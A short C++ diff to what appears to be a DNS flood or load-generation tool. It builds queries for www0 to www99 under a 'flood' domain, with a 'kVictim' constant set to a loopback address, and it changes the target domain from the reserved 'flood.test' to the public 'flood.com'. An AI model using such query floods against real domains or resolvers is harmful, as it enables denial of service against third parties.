@@ -21,7 +21,7 @@ namespace {
 constexpr int kBatch = 64;
 constexpr uint32_t kVictim = 0x7F4D4D00;  // 127.77.77.0
 
-// www0.flood.test to www99.flood.test, A, without EDNS.
+// www0.flood.com to www99.flood.com, A, without EDNS.
 size_t WriteQuery(uint32_t number, uint8_t* out) {
   static constexpr uint8_t kHeader[] = {0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
   std::memcpy(out, kHeader, sizeof kHeader);
@@ -33,7 +33,7 @@ size_t WriteQuery(uint32_t number, uint8_t* out) {
   *at++ = static_cast<uint8_t>(length);
   std::memcpy(at, label, static_cast<size_t>(length));
   at += length;
-  static constexpr uint8_t kRest[] = {5, 'f', 'l', 'o', 'o', 'd', 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1};
+  static constexpr uint8_t kRest[] = {5, 'f', 'l', 'o', 'o', 'd', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1};
   std::memcpy(at, kRest, sizeof kRest);
   return static_cast<size_t>(at + sizeof kRest - out);
 }
